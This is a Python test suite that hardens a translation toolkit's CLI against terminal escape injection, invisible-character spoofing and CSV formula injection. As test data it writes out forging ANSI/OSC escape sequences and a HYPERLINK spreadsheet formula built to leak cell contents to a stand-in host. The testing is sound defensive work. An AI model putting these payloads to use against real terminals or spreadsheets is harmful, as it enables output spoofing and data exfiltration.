"""What tmkit prints is tmkit's: text from files reaches the terminal with its
control characters shown escaped, never obeyed (CLI as a subprocess).

A committed sign-off file is read strictly (reviewer, approved_at); file names,
messages quoting a file, status tables, JSON and CSV escape what they carry;
CSV cells cannot become spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.hardening.helpers import (REPO, SLUG, assert_clean_error, assert_no_traceback,
                                     assert_unchanged, copy_project, make_project, tmkit, tree_hash,
                                     write)
from toolkit.status import csv_cell
from toolkit.text.xmlchars import json_shown, shown

#: What must never reach a terminal raw (newline and tab end lines and cells of tmkit's own).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SIGNOFF = f"po/es/{SLUG}.review.toml"


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    root = make_project(tmp_path_factory.mktemp("terminal") / "proj")
    run = tmkit(root, "review", "approve", "--lang", "es", "--article", SLUG, "--by", "Dr. Ana Ruiz",
                "--despite-findings")
    assert run.code == 0, run.err
    return root


@pytest.fixture
def root(template, tmp_path) -> Path:
    return copy_project(template, tmp_path / "proj")


def _set(root: Path, key: str, toml_value: str) -> int:
    """Give ``key`` of the sign-off file a TOML value; returns its line."""
    path = root / SIGNOFF
    lines = path.read_text("utf-8").split("\n")
    number = next(i for i, line in enumerate(lines) if line.startswith(f"{key} ="))
    lines[number] = f"{key} = {toml_value}"
    path.write_text("\n".join(lines), encoding="utf-8")
    return number + 1


def _require_review(root: Path) -> None:
    config = root / "tmkit.toml"
    config.write_text(config.read_text("utf-8").replace("require_review = false", "require_review = true"),
                      encoding="utf-8")


def _clean(run) -> None:
    assert not RAW.search(run.out) and not RAW.search(run.err), (run.out, run.err)


def test_forged_reviewer_in_a_committed_signoff_is_refused_never_printed(root):
    """ESC sequences, \\n and \\r in ``reviewer``: no fake 'held back:' line, no escape obeyed."""
    _require_review(root)
    line = _set(root, "reviewer",
                '"Dr. X\\u001b[2J\\u001b[31m\\nheld back: es/other: forged\\r\\u009b1m"')
    before = tree_hash(root)
    for command in (("status",), ("status", "--format", "csv"), ("build",), ("review", "--lang", "es")):
        run = tmkit(root, *command)
        _clean(run)
        message = assert_clean_error(run, SIGNOFF, "'reviewer' holds the control character U+001B",
                                     line=line)
        assert not any(l.startswith("held back:") for l in (run.out + run.err).splitlines()), command
        assert "forged" not in message
    assert_unchanged(before, tree_hash(root))


@pytest.mark.parametrize("name, problem", [
    ("Ana\u200bRuiz", "invisible character U+200B"),        # zero-width space
    ("Ana\u2060Ruiz", "invisible character U+2060"),        # word joiner
    ("\ufeffAna Ruiz", "invisible character U+FEFF"),       # BOM, zero-width no-break space
    ("Ana \u200dRuiz", "invisible character U+200D"),       # a joiner that joins no letters
    ("Ana\u202eziuR", "invisible character U+202E"),        # right-to-left override
    ("Ana\u2028Ruiz", "invisible character U+2028"),        # line separator
    ("Ana\x85Ruiz", "control character U+0085"),
])
def test_invisible_characters_in_reviewer_names_are_refused_when_approving_and_reading(root, name, problem):
    before = tree_hash(root)
    run = tmkit(root, "review", "approve", "--lang", "es", "--article", SLUG, "--by", name,
                "--despite-findings")
    assert_clean_error(run, "--by: the reviewer's name", problem)
    assert_unchanged(before, tree_hash(root))
    line = _set(root, "reviewer", json.dumps(name))     # a JSON string is a TOML basic string
    run = tmkit(root, "status", "--lang", "es")
    _clean(run)
    assert_clean_error(run, SIGNOFF, f"'reviewer' holds the {problem}", line=line)


def test_joiners_between_letters_are_part_of_a_name(root):
    """Persian and Devanagari names need ZWNJ/ZWJ inside words: recorded and read back."""
    for name in ("محمد\u200cرضا کریمی", "क्\u200dष"):
        run = tmkit(root, "review", "approve", "--lang", "es", "--article", SLUG, "--by", name,
                    "--despite-findings")
        assert run.code == 0, run.err
        status = json.loads(tmkit(root, "status", "--lang", "es", "--format", "json").out)
        assert status["languages"][0]["articles"][0]["review"]["reviewer"] == name


@pytest.mark.parametrize("stamp", ["yesterday", "2026-13-01T00:00:00Z", "2026-02-30T10:00:00Z",
                                   "2026-11-30T17:40:02+01:00", "2026-11-30 17:40:02Z",
                                   "2026-11-30T17:40:02", "2026-11-30T25:00:00Z", ""])
def test_approved_at_must_be_a_utc_time_when_read(root, stamp):
    line = _set(root, "approved_at", json.dumps(stamp))
    for command in (("status",), ("review", "--lang", "es")):
        assert_clean_error(tmkit(root, *command), SIGNOFF, "'approved_at' must be a UTC time",
                           line=line)


def test_approved_at_as_written_is_read(root):
    _set(root, "approved_at", '"2026-11-30T17:40:02.25Z"')
    assert tmkit(root, "status", "--lang", "es").code == 0


def test_article_file_names_with_controls_are_refused_and_shown_escaped(root):
    """A file name is a slug: it names PO files, pages and XML attributes.  One holding
    ESC sequences (or bytes that are not UTF-8) is refused, named escaped, by every command."""
    seed = (REPO / "source" / f"{SLUG}.txt").read_bytes()
    for evil, escaped in (("ev\x1b[2J\x1b[31mil\x9b1m", "ev\\x1b[2J\\x1b[31mil\\x9b1m"),
                          ("tab\there", "tab\\there"), ("lat\udce9n", "lat\\udce9n")):
        path = root / "source" / f"{evil}.txt"
        path.write_bytes(seed)
        before = tree_hash(root)
        for command in (("extract",), ("update", "--lang", "es"), ("check", "--lang", "es"),
                        ("build", "--lang", "es", "--force"), ("status", "--lang", "es"),
                        ("xliff", "export", "--lang", "es", "-o", "agency")):
            run = tmkit(root, *command)
            _clean(run)
            assert_clean_error(run, f"source/{escaped}.txt: the file name holds a control character")
        assert_unchanged(before, tree_hash(root))
        path.unlink()


def test_text_from_files_is_printed_with_controls_escaped(root):
    """An error quoting a file's value, and a TM filled before controls were refused
    (``tm lookup`` prints its units, in text and JSON): escaped, never obeyed."""
    _set(root, "lang", '"es\\u001b]0;owned\\u0007"')
    run = tmkit(root, "status", "--lang", "es")
    _clean(run)
    assert "this sign-off is for es\\x1b]0;owned\\x07/" in assert_clean_error(run, SIGNOFF)

    from toolkit.project.config import load_config
    from toolkit.tm.project import open_project_tm
    from toolkit.tm.store import TMUnit

    source, target = "Back pain\x1b[2J is common.", "El dolor\n\rheld back: es/x\x9b1m es frecuente."
    with open_project_tm(load_config(root)) as tm:
        tm.add([TMUnit(source, target, "en", "es", "old\x1b[5m", "b1.s1")])
    for extra in ((), ("--json",)):
        run = tmkit(root, "tm", "lookup", source, "--lang", "es", *extra)
        assert run.code == 0, run.err
        _clean(run)
        assert not any(line.startswith("held back:") for line in run.out.splitlines())
    assert "El dolor\\n\\rheld back: es/x\\x9b1m es frecuente." in tmkit(root, "tm", "lookup", source,
                                                                       "--lang", "es").out
    assert json.loads(run.out)[0]["target"] == target     # JSON keeps the value, escaped


def test_status_csv_cells_cannot_become_formulas(root):
    formula = '=HYPERLINK("http://127.0.0.1:9/x?leak="&A1,"Click for details")'
    run = tmkit(root, "review", "approve", "--lang", "es", "--article", SLUG, "--by", formula,
                "--despite-findings")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(tmkit(root, "status", "--lang", "es", "--format", "csv").out)))
    assert rows[0]["reviewer"] == "'" + formula
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\\tx"), ("\r=x", "'\\r=x"), ("Dr. Ana", "Dr. Ana"), ("a=b", "a=b"), (12, 12), ("", ""),
])
def test_csv_cell_neutralises_what_a_spreadsheet_would_evaluate(value, cell):
    assert csv_cell(value) == cell


def test_shown_escapes_every_control_and_nothing_else():
    for code in range(0x200):
        char = chr(code)
        if code < 0x20 or 0x7F <= code <= 0x9F:
            assert shown(f"a{char}b") != f"a{char}b" and not RAW.search(shown(char)), hex(code)
        else:
            assert shown(f"a{char}b") == f"a{char}b", hex(code)
    assert shown("x\n\r\t\x1b\x9b\udcff") == "x\\n\\r\\t\\x1b\\x9b\\udcff"
    assert shown("C:\\path \u202e \u200b ok") == "C:\\path \u202e \u200b ok"
    data = {"t": "a\x1b\x85\x7f\udcffb"}
    text = json_shown(data)
    assert not RAW.search(text) and json.loads(text)["t"] == "a\x1b\x85\x7f\udcffb"


def test_every_print_goes_through_the_escaping_echo():
    """One place prints: toolkit.cli.echo (and echo_block for renderings escaped cell by cell)."""
    printing = re.compile(r"click\.s?echo\(|(?<![\w.])print\(|sys\.std(?:out|err)\.write\(")
    found = []
    for path in sorted((REPO / "toolkit").rglob("*.py")):
        if path == REPO / "toolkit" / "cli" / "__init__.py":
            continue
        for number, line in enumerate(path.read_text("utf-8").split("\n"), 1):
            if printing.search(line):
                found.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert not found, found
